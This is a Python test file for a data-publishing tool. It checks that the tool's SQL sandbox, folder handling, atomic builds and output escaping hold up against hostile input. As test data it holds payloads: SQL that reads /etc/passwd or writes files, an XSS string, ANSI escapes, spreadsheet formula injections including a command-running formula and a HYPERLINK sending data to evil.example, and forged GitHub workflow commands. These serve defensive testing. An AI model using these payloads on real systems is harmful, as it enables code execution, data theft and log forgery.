"""Safe publishing (issue 13, kinds 1, 2, 3 and 6): every case of the reliability report in these kinds.

Case numbers (#N) are the rows of ../shared/cases/reliability/REPORT.md; each test asserts the
behaviour the report's legend calls OK: a clear one-line message, no traceback, nothing lost.
"""
from __future__ import annotations

import csv
import errno
import fcntl
import io
import json
import os
import re
import shutil
import signal
import subprocess
import sys
import zipfile
from pathlib import Path

import duckdb
import markdown
import pytest

from pipeline import outdir, publish
from pipeline.diff import Side, diff_databases
from pipeline.errors import DataError, github_data, github_property, printable
from pipeline.release import changelog_section, markdown_text
from tests.conftest import REPO, run_cli

ESCAPES = "\x1b]0;PWNED-TITLE\x07\x1b[2J\x1b[31mTable 1\x1b[0m"  # cases/ansi-escape-cite
XSS_NAME = '<img src="x" onerror="alert(1)"><script>alert("changelog-xss")</script>'  # cases/changelog-xss-chain
CLAIM = "example-model.params_total.example-paper"


def digest_tree(folder: Path) -> dict[str, bytes]:
    """Every file under a folder (following the published links) -> its bytes."""
    return {str(path.relative_to(folder)): path.read_bytes() for path in sorted(folder.rglob("*")) if path.is_file()}


def content_hashes(out: Path) -> tuple[str, str]:
    """build_info.content_hash as the database says it and as the Parquet folder says it."""
    with duckdb.connect(str(out / "modelfacts.duckdb"), read_only=True) as connection:
        in_database = connection.execute("SELECT content_hash FROM build_info").fetchone()[0]
    with duckdb.connect() as connection:
        in_parquet = connection.execute("SELECT content_hash FROM read_parquet(?)",
                                        [str(out / "parquet" / "build_info.parquet")]).fetchone()[0]
    return in_database, in_parquet


@pytest.fixture
def built(tree: Path, monkeypatch) -> Path:
    """The fixture tree with dist/ built."""
    assert run_cli(["build"], tree, monkeypatch)[0] == 0
    return tree


def hostile_copy(built: Path, name: str, statements: list[str]) -> Path:
    """A writable copy of the built database with some rows rewritten (text the validator may refuse)."""
    copy = built / name
    shutil.copyfile(built / "dist" / "modelfacts.duckdb", copy)
    with duckdb.connect(str(copy)) as connection:
        for statement in statements:
            connection.execute(statement)
    return copy


# ------------------------------------------------------------------ kind 1: read-only SQL (#83-#88, #109)

@pytest.mark.parametrize("sql, written", [
    ("COPY claims TO '{tmp}/leak.csv'", "leak.csv"),  # 84
    ("EXPORT DATABASE '{tmp}/exported'", "exported"),  # 84
    ("COPY (SELECT 42 AS x) TO '{tmp}/x.parquet' (FORMAT parquet)", "x.parquet"),
])
def test_query_cannot_write_files(built, monkeypatch, sql, written):
    status, out, err = run_cli(["query", sql.format(tmp=built)], built, monkeypatch)
    assert (status, out) == (1, "")
    assert err.startswith("query failed: Permission Error:") and "disabled by configuration" in err
    assert not (built / written).exists()


@pytest.mark.parametrize("target", ["dist/modelfacts.duckdb", "dist/parquet/claims.parquet"])  # 85, 86
def test_query_cannot_overwrite_the_published_build(built, monkeypatch, target):
    before = digest_tree(built / "dist")
    for sql in (f"COPY (SELECT 'pwned' AS x) TO '{target}' (FORMAT csv)",
                f"COPY (SELECT 42 AS pwned) TO '{target}' (FORMAT parquet)"):
        status, _, err = run_cli(["query", sql], built, monkeypatch)
        assert status == 1 and "Permission Error" in err
    assert digest_tree(built / "dist") == before
    assert run_cli(["query", "SELECT count(*) AS n FROM claims", "--format", "csv"], built, monkeypatch)[1] == "n\n4\n"


@pytest.mark.parametrize("sql", [  # 87
    "SELECT * FROM read_csv('/etc/passwd')", "SELECT * FROM read_text('/etc/passwd')",
    "SELECT * FROM read_blob('/etc/passwd')", "SELECT * FROM glob('/root/*')", "SELECT * FROM glob('/srv/**')",
    "SELECT * FROM read_parquet('{tmp}/dist/parquet/claims.parquet')",
    "ATTACH '{tmp}/other.duckdb' AS other",
])
def test_query_cannot_read_other_files(built, monkeypatch, sql):
    status, out, err = run_cli(["query", sql.format(tmp=built)], built, monkeypatch)
    assert (status, out) == (1, "")
    assert "Permission Error" in err and "root:" not in err


@pytest.mark.parametrize("sql", [  # 88 and the settings themselves
    "INSTALL httpfs", "LOAD httpfs", "SET enable_external_access = true", "RESET enable_external_access",
    "SET lock_configuration = false", "SET allowed_directories = ['/']", "SET autoload_known_extensions = true",
    "SET allow_community_extensions = true", "PRAGMA enable_profiling",
])
def test_query_cannot_load_extensions_or_change_the_sandbox(built, monkeypatch, sql):
    status, _, err = run_cli(["query", sql], built, monkeypatch)
    assert status == 1 and err.startswith("query failed:")


def test_query_runs_with_duckdbs_safety_settings(built, monkeypatch):
    names = ["enable_external_access", "lock_configuration", "autoload_known_extensions",
             "autoinstall_known_extensions", "allow_community_extensions", "allow_unsigned_extensions"]
    sql = "SELECT " + ", ".join(f"current_setting('{name}') AS {name}" for name in names)
    status, out, _ = run_cli(["query", sql, "--format", "json"], built, monkeypatch)
    assert status == 0
    assert json.loads(out) == [{"enable_external_access": False, "lock_configuration": True,
                                "autoload_known_extensions": False, "autoinstall_known_extensions": False,
                                "allow_community_extensions": False, "allow_unsigned_extensions": False}]


@pytest.mark.parametrize("sql", ["DELETE FROM claims", "DROP TABLE claims", "SELECT 1; DROP TABLE claims",  # 83
                                 "INSERT INTO models (model_id) VALUES ('x')"])
def test_query_cannot_change_the_database(built, monkeypatch, sql):
    before = digest_tree(built / "dist")
    status, _, err = run_cli(["query", sql], built, monkeypatch)
    assert status == 1 and err.startswith("query failed:")
    assert digest_tree(built / "dist") == before


def test_a_view_that_reads_files_cannot_leak_them_into_a_release(built, monkeypatch):
    # a hostile database file: release, cite and docs open any --db inside the same sandbox
    hostile = hostile_copy(built, "hostile.duckdb", ["CREATE VIEW leak AS SELECT * FROM read_text('/etc/hostname')"])
    status, out, err = run_cli(["release", "--db", str(hostile), "--out", "rel"], built, monkeypatch)
    assert (status, out) == (1, "")
    assert "Permission Error" in err and len(err.splitlines()) == 1
    assert not list((built / "rel").glob("modelfacts-*"))


def test_quotes_in_output_paths_are_data_not_sql(built, monkeypatch):  # 109
    status, out, err = run_cli(["build", "--out", "it's dist"], built, monkeypatch)
    assert (status, out.split(": ")[0]) == (0, "wrote it's dist/modelfacts.duckdb"), err
    assert content_hashes(built / "it's dist")[0] == content_hashes(built / "dist")[0]
    from pipeline import site

    listing = site.write_downloads(built / "it's dist" / "modelfacts.duckdb", built / "it's site")
    assert ("downloads/csv/claims.csv" in {path for path, _, _ in listing})
    status, out, err = run_cli(["release", "--db", "it's dist/modelfacts.duckdb", "--out", "it's rel"], built,
                               monkeypatch)
    assert status == 0, err


# ------------------------------------------------------------------ kind 2: never delete what the tool did not make

def test_marker_records_kind_and_tool_version(built):
    marker = json.loads((built / "dist" / outdir.MARKER).read_text())
    assert marker == {"kind": "build", "tool_version": outdir.tool_version()}


def test_build_refuses_a_users_folder_and_keeps_it(tree, monkeypatch):  # 110
    mine = tree / "mydir"
    (mine / "parquet").mkdir(parents=True)
    (mine / "parquet" / "my-own-analysis.parquet").write_bytes(b"PAR1 mine")
    (mine / ".build-notes").mkdir()
    (mine / ".build-notes" / "keep.txt").write_text("keep me")
    before = digest_tree(mine)
    status, out, err = run_cli(["build", "--out", "mydir"], tree, monkeypatch)
    assert (status, out) == (1, "")
    assert err == ("mydir: cannot write the build: is not empty and was not made by modelfacts (no "
                   ".modelfacts-output file), so it is left untouched; choose a new or empty folder, or move its "
                   "contents away first\n")
    assert digest_tree(mine) == before and sorted(p.name for p in mine.iterdir()) == [".build-notes", "parquet"]


def test_build_into_an_empty_folder_marks_it(tree, monkeypatch):
    (tree / "empty").mkdir()
    assert run_cli(["build", "--out", "empty"], tree, monkeypatch)[0] == 0
    assert outdir.marker_kind(tree / "empty") == "build"


@pytest.mark.parametrize("target", ["user", "data", "."])  # 106, 107, 108
def test_docs_refuses_a_folder_it_did_not_make(built, monkeypatch, target):
    (built / "user" / "important").mkdir(parents=True)
    (built / "user" / "important" / "thesis.txt").write_text("four years of work")
    (built / "user" / "notes.md").write_text("notes")
    before = digest_tree(built / target) if target != "." else None
    data_before = digest_tree(built / "data")
    status, out, err = run_cli(["docs", "--out", target], built, monkeypatch)
    assert (status, out) == (1, "")
    assert err == (f"{target}: cannot write the site: is not empty and was not made by modelfacts (no "
                   ".modelfacts-output file), so it is left untouched; choose a new or empty folder, or move its "
                   "contents away first\n")
    if before is not None:
        assert digest_tree(built / target) == before
    assert digest_tree(built / "data") == data_before
    assert run_cli(["validate"], built, monkeypatch)[1].startswith("ok: 2 models")
    assert not list(built.glob(".site-*")) and not list((built / "user").glob(".*"))


def test_docs_refuses_the_build_folder_itself(built, monkeypatch):
    before = digest_tree(built / "dist")
    status, _, err = run_cli(["docs", "--out", "dist"], built, monkeypatch)
    assert status == 1
    assert err == ("dist: cannot write the site: holds modelfacts build output, not site output; "
                   "choose another folder for the site\n")
    assert digest_tree(built / "dist") == before


def test_release_twice_of_the_same_version_refuses(built, monkeypatch):  # 127
    assert run_cli(["release"], built, monkeypatch)[0] == 0
    release = built / "dist" / "release"
    first = digest_tree(release)
    status, out, _ = run_cli(["release"], built, monkeypatch)  # the same database again: nothing changes
    assert status == 0 and digest_tree(release) == first
    model = built / "data/models/meta/example-model.yaml"
    model.write_text(model.read_text().replace('value: "70B"', 'value: "69B"'))
    assert run_cli(["build"], built, monkeypatch)[0] == 0
    status, out, err = run_cli(["release"], built, monkeypatch)
    assert (status, out) == (1, "")
    assert err == ("release failed: dist/release: version 0.1.0 was released here before with other contents "
                   "(modelfacts-0.1.0.duckdb); releases are immutable: bump data/VERSION for a new release, "
                   "or choose another --out\n")
    assert digest_tree(release) == first


def test_a_new_release_keeps_the_older_ones(built, monkeypatch):  # 128
    assert run_cli(["release"], built, monkeypatch)[0] == 0
    release = built / "dist" / "release"
    old = {name: data for name, data in digest_tree(release).items() if name.startswith("modelfacts-0.1.0")}
    (built / "data/VERSION").write_text("0.1.1\n")
    assert run_cli(["build"], built, monkeypatch)[0] == 0
    assert run_cli(["release"], built, monkeypatch)[0] == 0
    now = digest_tree(release)
    assert all(now[name] == data for name, data in old.items()) and len(old) == 3
    assert len([name for name in now if name.startswith("modelfacts-0.1.1")]) == 3
    if shutil.which("sha256sum"):
        subprocess.run(["sha256sum", "--check", "--quiet", "SHA256SUMS"], cwd=release, check=True)


def test_release_refuses_a_users_folder(built, monkeypatch):
    (built / "mine").mkdir()
    (built / "mine" / "SHA256SUMS").write_text("my own sums\n")
    status, _, err = run_cli(["release", "--out", "mine"], built, monkeypatch)
    assert status == 1 and err.startswith("mine: cannot write the release: is not empty and was not made by modelfacts")
    assert (built / "mine" / "SHA256SUMS").read_text() == "my own sums\n"


@pytest.mark.parametrize("layout, message", [  # 121, 122
    ("user-file", "out: cannot write the export: is not empty and was not made by modelfacts"),
    ("out-is-file", "out: cannot write the export: is not a folder; choose a folder path for the output"),
    ("data-is-file", "out: cannot write the export: is not empty and was not made by modelfacts"),
])
def test_export_refuses_folders_it_did_not_make(built, monkeypatch, layout, message):
    out = built / "out"
    if layout == "out-is-file":
        out.write_text("a file")
    else:
        out.mkdir()
        (out / ("notes.txt" if layout == "user-file" else "data")).write_text("mine")
    status, stdout, err = run_cli(["export", "--out", "out"], built, monkeypatch)
    assert (status, stdout) == (1, "") and err.startswith(message) and len(err.splitlines()) == 1
    assert (out.read_text() if out.is_file() else (out / ("notes.txt" if layout == "user-file" else "data")).read_text()) \
        in ("a file", "mine")


def test_export_never_overwrites_an_earlier_export(built, monkeypatch):
    assert run_cli(["export", "--out", "out"], built, monkeypatch)[0] == 0
    edited = built / "out/data/models/meta/example-model.yaml"
    edited.write_text(edited.read_text() + "# my edit\n")
    status, _, err = run_cli(["export", "--out", "out"], built, monkeypatch)
    assert status == 1 and "out/data: already exists and is not empty" in err
    assert edited.read_text().endswith("# my edit\n")


def test_removal_is_limited_to_marked_folders(tmp_path):
    (tmp_path / ".build-notes").mkdir()
    (tmp_path / ".build-notes" / "keep.txt").write_text("keep")
    made = outdir.make_staging(tmp_path, ".build-", "build")
    outdir.remove_stale(tmp_path, ".build-")
    assert not made.exists()
    assert (tmp_path / ".build-notes" / "keep.txt").read_text() == "keep"
    outdir.remove_made(tmp_path / ".build-notes")
    assert (tmp_path / ".build-notes" / "keep.txt").exists()


# ------------------------------------------------------------------ kind 3: atomic publishing

KILLER = """
import os, sys
from pipeline import cli, publish
step = int(sys.argv[1])
calls = {"n": 0}
real_rename, real_link = publish.os.rename, publish._link

def count():
    calls["n"] += 1
    if calls["n"] == step:
        os._exit(9)  # as SIGKILL: no finally blocks, no clean-up

def rename(*args):
    real_rename(*args)
    count()

def link(*args):
    real_link(*args)
    count()

publish.os.rename = rename
publish._link = link
cli.main(["build"])
"""


@pytest.mark.parametrize("step", [1, 2, 3, 4])  # 99, 100: a kill after each step of publish()
def test_a_kill_between_the_steps_never_mixes_database_and_parquet(built, monkeypatch, step):
    old = content_hashes(built / "dist")
    assert old[0] == old[1]
    model = built / "data/models/meta/example-model.yaml"
    model.write_text(model.read_text().replace('value: "70B"', 'value: "71B"'))
    result = subprocess.run([sys.executable, "-c", KILLER, str(step)], cwd=built, capture_output=True, text=True,
                            env={**os.environ, "PYTHONPATH": str(REPO)})
    assert result.returncode == 9, result.stderr
    database, parquet = content_hashes(built / "dist")
    assert database == parquet  # one build, never a mix
    assert (database == old[0]) == (step == 1)  # the new build is current from the `current` rename on
    assert run_cli(["build"], built, monkeypatch)[0] == 0  # the next build clears what the kill left
    assert not list((built / "dist").glob(".build-*")) and len(list((built / "dist" / "builds").iterdir())) == 1


def test_a_second_build_into_the_same_folder_is_refused_while_one_runs(built, monkeypatch):  # 101
    before = digest_tree(built / "dist")
    with open(built / "dist" / outdir.LOCK, "a+b") as held:
        fcntl.flock(held.fileno(), fcntl.LOCK_EX | fcntl.LOCK_NB)
        status, out, err = run_cli(["build"], built, monkeypatch)
    assert (status, out) == (1, "")
    assert err == ("dist: cannot write the build: another modelfacts build is writing here; wait for it to "
                   "finish, or use another --out\n")
    assert digest_tree(built / "dist") == before
    assert run_cli(["build"], built, monkeypatch)[0] == 0  # the lock goes with its holder


def test_concurrent_builds_fail_cleanly_or_succeed(built):  # 101: three at once, several rounds
    env = {**os.environ, "PYTHONPATH": str(REPO)}
    for _ in range(3):
        processes = [subprocess.Popen([sys.executable, "-m", "pipeline.cli", "build"], cwd=built, env=env,
                                      stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True) for _ in range(3)]
        results = [(process.wait(), process.stdout.read(), process.stderr.read()) for process in processes]
        for status, _, err in results:
            assert "Traceback" not in err
            assert status == 0 or err == ("dist: cannot write the build: another modelfacts build is writing "
                                          "here; wait for it to finish, or use another --out\n")
        assert any(status == 0 for status, _, _ in results)
        database, parquet = content_hashes(built / "dist")
        assert database == parquet
    assert not list((built / "dist").glob(".build-*"))


def test_a_full_disk_inside_duckdb_is_one_line(built, monkeypatch):  # 94 (DuckDB's own ENOSPC)
    before = digest_tree(built / "dist")

    def full(connection, names):
        raise duckdb.FatalException('FATAL Error: could not write file "x": No space left on device')

    monkeypatch.setattr(publish, "content_hash", full)
    status, out, err = run_cli(["build"], built, monkeypatch)
    assert (status, out) == (1, "")
    assert err.startswith(str(built / "dist" / ".build-")) and err.endswith(
        "/modelfacts.duckdb: cannot write the build: No space left on device\n")
    assert digest_tree(built / "dist") == before and not list((built / "dist").glob(".build-*"))


def test_a_full_disk_at_commit_is_one_line(built, monkeypatch):  # 94 (the WAL cannot be written at commit)
    before = digest_tree(built / "dist")

    def full(connection, names):
        raise duckdb.TransactionException('TransactionContext Error: Failed to commit: Could not write file '
                                          '"x.wal": No space left on device')

    monkeypatch.setattr(publish, "content_hash", full)
    status, out, err = run_cli(["build"], built, monkeypatch)
    assert (status, out) == (1, "")
    assert err.endswith("/modelfacts.duckdb: cannot write the build: No space left on device\n")
    assert digest_tree(built / "dist") == before and not list((built / "dist").glob(".build-*"))


@pytest.fixture
def small_disk(tmp_path: Path):
    """A 1.5 MB tmpfs (needs root and mount); skipped where it cannot be mounted."""
    mount = tmp_path / "small"
    mount.mkdir()
    if os.geteuid() != 0 or not shutil.which("mount"):
        pytest.skip("mounting a tmpfs needs root")
    result = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=1500k", "tmpfs", str(mount)], capture_output=True)
    if result.returncode != 0:
        pytest.skip("cannot mount a tmpfs here")
    yield mount
    subprocess.run(["umount", str(mount)], check=False)


@pytest.mark.parametrize("command", ["build", "build-tight", "export", "docs", "release"])  # 94-97: a real full disk
def test_a_real_full_disk_is_one_line_naming_the_path(built, monkeypatch, small_disk, command):
    args = {"build": ["build", "--out", str(small_disk / "out")],
            "build-tight": ["build", "--out", str(small_disk / "out")],
            "export": ["export", "--out", str(small_disk / "out")],
            "docs": ["docs", "--out", str(small_disk / "out")],
            "release": ["release", "--out", str(small_disk / "out")]}[command]
    filler = small_disk / "filler"  # leave too little room for the output
    free = os.statvfs(small_disk).f_bavail * os.statvfs(small_disk).f_frsize
    room = {"export": 8_192, "build-tight": 150_000}.get(command, 600_000)  # build-tight: DuckDB's commit fails
    filler.write_bytes(b"\0" * max(free - room, 0))
    status, out, err = run_cli(args, built, monkeypatch)
    assert status == 1 and "Traceback" not in err
    assert len(err.strip().splitlines()) <= 2 and "No space left on device" in err
    assert str(small_disk) in err
    leftovers = [path.name for path in small_disk.rglob(".*") if path.name not in (outdir.MARKER, outdir.LOCK)
                 and not path.name.endswith(".modelfacts-lock")]
    assert leftovers == []  # staging removed
    if command == "export":
        assert not (small_disk / "out" / "data").exists()  # no partial data/: a rerun after freeing space works
        filler.unlink()
        assert run_cli(args, built, monkeypatch)[0] == 0


def test_ctrl_c_during_the_checks_exits_130_without_a_traceback(built, monkeypatch):  # 105
    def interrupted(*args, **kwargs):
        raise RuntimeError("Query interrupted")  # what DuckDB raises when SIGINT arrives mid-query

    monkeypatch.setattr("pipeline.build.build_tables", interrupted)
    before = digest_tree(built / "dist")
    assert run_cli(["build"], built, monkeypatch) == (130, "", "")
    assert digest_tree(built / "dist") == before


def test_ctrl_c_while_publishing_removes_the_staging_and_keeps_the_old_build(built, monkeypatch):  # 105
    before = digest_tree(built / "dist")

    def interrupted(connection, folder, names):
        folder.mkdir()
        (folder / "claims.parquet").write_bytes(b"half")
        raise KeyboardInterrupt

    monkeypatch.setattr(publish, "_write_parquet", interrupted)
    assert run_cli(["build"], built, monkeypatch) == (130, "", "")
    assert digest_tree(built / "dist") == before
    assert not list((built / "dist").glob(".build-*"))


def test_a_real_sigint_during_a_duckdb_query_is_exit_130(built):  # 105, with the real DuckDB behaviour
    # a first query loads pandas and DuckDB, so the signal falls in the second query and not in an import
    # (on a busy machine the imports alone took over the second the timer waits)
    script = ("import os, signal, threading\n"
              "from pipeline import cli\n"
              "cli.main(['query', 'SELECT 1'])\n"
              "threading.Timer(1.0, lambda: os.kill(os.getpid(), signal.SIGINT)).start()\n"
              "raise SystemExit(cli.main(['query', 'SELECT count(*) FROM range(100000000000) a']))\n")
    result = subprocess.run([sys.executable, "-c", script], cwd=built, capture_output=True, text=True, timeout=60,
                            env={**os.environ, "PYTHONPATH": str(REPO)})
    assert result.returncode == 130 and "Traceback" not in result.stderr


@pytest.fixture
def site(built, monkeypatch) -> Path:
    """built/dist/site generated once."""
    status, _, err = run_cli(["docs"], built, monkeypatch)
    assert status == 0, err
    return built / "dist" / "site"


def test_ctrl_c_during_docs_keeps_the_old_site_and_no_staging(site, built, monkeypatch):  # 102, 103
    before = digest_tree(site)

    def interrupted(config):
        raise KeyboardInterrupt

    from pipeline import site as site_package

    # patch where build_site looks it up (pipeline.site, or pipeline.site.build once site is a package)
    monkeypatch.setattr(sys.modules[site_package.build_site.__module__], "run_mkdocs", interrupted)
    assert run_cli(["docs"], built, monkeypatch)[0] == 130
    assert digest_tree(site) == before
    assert not list((built / "dist").glob(".site-*"))


def test_staging_left_by_a_killed_docs_run_is_removed_by_the_next(site, built, monkeypatch):  # 103
    stale = outdir.make_staging(built / "dist", ".site-", "site")  # as a SIGKILL leaves it
    (stale / "docs").mkdir()
    assert run_cli(["docs"], built, monkeypatch)[0] == 0
    assert not stale.exists() and not list((built / "dist").glob(".site-*"))


def test_docs_leaves_no_lock_file_behind(built, monkeypatch):
    """The lock that keeps two docs runs apart sits beside the site folder (the folder itself is swapped);
    the run that made it removes it, wherever --out points."""
    assert run_cli(["docs", "--out", "site-out"], built, monkeypatch)[0] == 0
    assert run_cli(["docs"], built, monkeypatch)[0] == 0
    assert (built / "site-out" / "index.html").exists() and (built / "dist" / "site" / "index.html").exists()
    assert not (built / ".site-out.modelfacts-lock").exists()
    assert not (built / "dist" / ".site.modelfacts-lock").exists()


def test_a_lock_file_its_holder_removed_is_never_held_by_two_runs(tmp_path, monkeypatch):
    """A run opens the lock file just as its holder finishes and deletes it, and a third run locks a new file
    at the path: the first run's lock on the deleted file must not count, so it is refused."""
    lock = tmp_path / ".site.modelfacts-lock"
    lock.touch()
    real_flock, third_run = fcntl.flock, []

    def flock_after_the_holder_left(descriptor, operation):
        if not third_run:
            os.unlink(lock)
            third_run.append(open(lock, "a+b"))
            real_flock(third_run[0].fileno(), fcntl.LOCK_EX | fcntl.LOCK_NB)
        return real_flock(descriptor, operation)

    monkeypatch.setattr(fcntl, "flock", flock_after_the_holder_left)
    with pytest.raises(outdir.OutputFolderError, match="another modelfacts site is writing here"):
        with outdir.exclusive(tmp_path / "site", "site", lock_path=lock, remove=True):
            pass
    assert lock.exists()  # the third run's lock file, untouched by the refused run
    third_run[0].close()


def test_the_site_swap_is_one_exchange_and_never_leaves_no_site(tmp_path):  # 104
    old, new = tmp_path / "site", tmp_path / ".site-x" / "site"
    old.mkdir()
    (old / "index.html").write_text("old")
    new.mkdir(parents=True)
    (new / "index.html").write_text("new")
    retired = outdir.swap_into_place(new, old)
    assert (old / "index.html").read_text() == "new" and (retired / "index.html").read_text() == "old"


def test_without_exchange_ctrl_c_cannot_fall_between_the_two_renames(tmp_path, monkeypatch):  # 104, fallback
    old, new = tmp_path / "site", tmp_path / ".site-x" / "site"
    for folder, text in ((old, "old"), (new, "new")):
        folder.mkdir(parents=True)
        (folder / "index.html").write_text(text)
    monkeypatch.setattr(outdir, "exchange", lambda first, second: False)
    real_replace = os.replace

    def replace_then_interrupt(source, target):
        real_replace(source, target)
        os.kill(os.getpid(), signal.SIGINT)  # Ctrl-C right after the first rename

    monkeypatch.setattr(outdir.os, "replace", replace_then_interrupt)
    with pytest.raises(KeyboardInterrupt):  # delivered only once both renames are done
        outdir.swap_into_place(new, old)
    assert (old / "index.html").read_text() == "new"


def test_a_site_killed_inside_the_fallback_window_is_restored(tmp_path):  # 104, fallback + SIGKILL
    retired = tmp_path / ".site-x" / "site-previous"
    retired.mkdir(parents=True)
    outdir.write_marker(retired, "site")
    (retired / "index.html").write_text("old")
    outdir.restore_interrupted(tmp_path, ".site-", tmp_path / "site")
    assert (tmp_path / "site" / "index.html").read_text() == "old"


CORRUPT = {
    "csv.duckdb": b"x\npwned\n",
    "empty.duckdb": b"",
    "flipped.duckdb": None,  # the real file with bytes flipped every 4 KB
    "truncated.duckdb": None,  # the first 16 KB of the real file
    "dir.duckdb": None,  # a folder
}


@pytest.mark.parametrize("name", list(CORRUPT))  # 90, 91
def test_a_corrupt_database_is_one_line_for_every_reader(built, monkeypatch, name):
    path = built / name
    real = (built / "dist" / "modelfacts.duckdb").read_bytes()
    if name == "dir.duckdb":
        path.mkdir()
    elif name == "flipped.duckdb":
        flipped = bytearray(real)
        for offset in range(0, len(flipped), 4096):
            flipped[offset:offset + 64] = b"\xff" * 64
        path.write_bytes(bytes(flipped))
    elif name == "truncated.duckdb":
        path.write_bytes(real[:16_384])  # the header blocks and little else
    else:
        path.write_bytes(CORRUPT[name])
    for args in (["check", "--db", name], ["docs", "--db", name, "--out", "site-x"], ["query", "SELECT count(*) FROM claims", "--db", name],
                 ["cite", CLAIM, "--db", name], ["export", "--db", name, "--out", "exp-x"],
                 ["release", "--db", name, "--out", "rel-x"], ["diff", name, "dist/modelfacts.duckdb"]):
        status, _, err = run_cli(args, built, monkeypatch)
        assert status == 1, (args, err)
        assert "Traceback" not in err and len([line for line in err.splitlines() if "previous site" not in line]) == 1, \
            (args, err)


# ------------------------------------------------------------------ kind 6: hostile text stays text

def test_changelog_escapes_names_so_no_live_html_reaches_the_site(built, monkeypatch):  # 80
    hostile = hostile_copy(built, "new.duckdb", [
        f"UPDATE models SET model_id = 'xss-chain', name = $${XSS_NAME}$$ WHERE model_id = 'example-model'",
        "UPDATE claims SET as_written = '[x](javascript:alert(1))' WHERE claim_id = 'example-moe.params_total.example-paper'",
    ])
    text = changelog_section(diff_databases(Side(built / "dist" / "modelfacts.duckdb", "v0.1.0"),
                                            Side(hostile, "working tree")), "0.1.1", "2026-11-23")
    assert "- `xss-chain`: &lt;img src=\"x\" onerror=\"alert(1)\"&gt;&lt;script&gt;alert(\"changelog-xss\")" \
           "&lt;/script&gt; (meta)" in text
    page = markdown.markdown(text)
    assert "<script" not in page and "<img" not in page and 'href="javascript:' not in page
    assert "&lt;script&gt;alert(\"changelog-xss\")&lt;/script&gt;" in page  # shown as text
    assert '"\\[x\\](javascript:alert(1))"' in text


def test_markdown_text_keeps_ordinary_names_readable():
    assert markdown_text("Llama 2 70B (params_total)") == "Llama 2 70B (params_total)"
    assert markdown_text("*bold* _it_ a|b `c` \\ x\ny") == "\\*bold\\* \\_it\\_ a\\|b \\`c\\` \\\\ x y"


FORMULAS = {"locator": "=cmd|' /C calc'!A0", "attributed_to": "+1+1", "as_written": "=1+2",
            "note": '=HYPERLINK("https://evil.example/?leak="&A1,"click for source")'}


def hostile_csv_db(built: Path) -> Path:
    """The built database with the spreadsheet formulas of cases/csv-formula-injection in claims."""
    sets = ", ".join(f"{column} = $${value}$$" for column, value in FORMULAS.items())
    return hostile_copy(built, "formulas.duckdb", [
        f"UPDATE claims SET {sets} WHERE claim_id = '{CLAIM}'",
        "UPDATE claims SET locator = '@SUM(1,2)', note = e'\\tTab', attributed_to = e'\\rCR', as_written = '-5' "
        "WHERE claim_id = 'example-moe.params_total.example-paper'"])


def claims_rows(text: str) -> dict[str, dict]:
    return {row["claim_id"]: row for row in csv.DictReader(io.StringIO(text))}


def test_release_csv_cells_cannot_run_as_spreadsheet_formulas(built, monkeypatch):  # 81
    database = hostile_csv_db(built)
    status, _, err = run_cli(["release", "--db", str(database), "--out", "rel"], built, monkeypatch)
    assert status == 0, err
    with zipfile.ZipFile(built / "rel" / "modelfacts-0.1.0-csv.zip") as bundle:
        rows = claims_rows(bundle.read("modelfacts-0.1.0-csv/claims.csv").decode())
    assert {column: rows[CLAIM][column] for column in FORMULAS} == {
        column: "'" + value for column, value in FORMULAS.items()}
    other = rows["example-moe.params_total.example-paper"]
    assert (other["locator"], other["note"], other["attributed_to"], other["as_written"]) == (
        "'@SUM(1,2)", "'\tTab", "'\rCR", "'-5")
    assert rows[CLAIM]["value"] == "70000000000.0"  # numbers untouched
    with zipfile.ZipFile(built / "rel" / "modelfacts-0.1.0-parquet.zip") as bundle:  # Parquet keeps the data as is
        bundle.extractall(built / "unpacked")
    with duckdb.connect() as connection:
        locator = connection.execute("SELECT locator FROM read_parquet(?) WHERE claim_id = ?", [
            str(built / "unpacked/modelfacts-0.1.0-parquet/claims.parquet"), CLAIM]).fetchone()[0]
    assert locator == FORMULAS["locator"]


def test_site_download_csv_cells_cannot_run_as_spreadsheet_formulas(built):  # 81, site downloads
    from pipeline import site

    site.write_downloads(hostile_csv_db(built), built / "docs")
    rows = claims_rows((built / "docs/downloads/csv/claims.csv").read_text())
    assert rows[CLAIM]["locator"] == "'" + FORMULAS["locator"] and rows[CLAIM]["note"] == "'" + FORMULAS["note"]


def test_github_annotations_cannot_forge_workflow_commands(tmp_path, monkeypatch):  # 82
    key = "x\n::warning file=README.md,line=1::All data verified by maintainers\n::add-mask::llama"
    error = DataError("data/models/meta/case-model.yaml", 14, "", f"unknown key '{key}'")
    line = error.github()
    assert "\n" not in line and "\r" not in line  # the runner reads commands only at the start of a line
    assert line == ("::error file=data/models/meta/case-model.yaml,line=14::unknown key 'x%0A::warning file=README.md,"
                    "line=1::All data verified by maintainers%0A::add-mask::llama'")
    assert github_data("100% a\r\nb") == "100%25 a%0D%0Ab"
    assert github_property("a:b,c%\n") == "a%3Ab%2Cc%25%0A"
    assert DataError("data/x,y.yaml", 0, "p", "m").github() == "::error file=data/x%2Cy.yaml,line=1::p: m"


def test_validate_format_github_prints_one_command_per_error(tree, monkeypatch):  # 82, through the CLI
    model = tree / "data/models/meta/example-model.yaml"
    model.write_text(model.read_text() + '"x\\n::warning file=README.md,line=1::All data verified\\n::add-mask::llama": 1\n')
    status, out, _ = run_cli(["validate", "--format", "github"], tree, monkeypatch)
    assert status == 1
    assert out.splitlines() and all(line.startswith("::error file=") for line in out.splitlines())
    assert "::warning" not in "".join(line.split("::", 2)[1] for line in out.splitlines())
    assert not any(line.startswith(("::warning", "::add-mask")) for line in out.splitlines())


def test_validate_text_output_cannot_forge_workflow_commands_either(tree, monkeypatch):  # 82, plain `validate`
    model = tree / "data/models/meta/example-model.yaml"
    model.write_text(model.read_text() + '"x\\n::warning file=README.md,line=1::All data verified\\n::add-mask::llama": 1\n')
    status, out, _ = run_cli(["validate"], tree, monkeypatch)
    assert status == 1
    assert all(line.startswith("data/") for line in out.splitlines())  # one line per error, the newlines escaped
    assert "x\\x0a::warning file=README.md" in out


def test_cite_prints_control_characters_as_text(built, monkeypatch):  # 20
    database = hostile_copy(built, "escapes.duckdb", [f"UPDATE claims SET locator = $${ESCAPES}$$ WHERE claim_id = '{CLAIM}'"])
    for style in ("text", "bibtex", "apa", "json"):
        status, out, _ = run_cli(["cite", CLAIM, "--db", str(database), "--style", style], built, monkeypatch)
        assert status == 0
        assert not any(0x00 <= ord(char) < 0x20 and char != "\n" or 0x7F <= ord(char) < 0xA0 for char in out), style
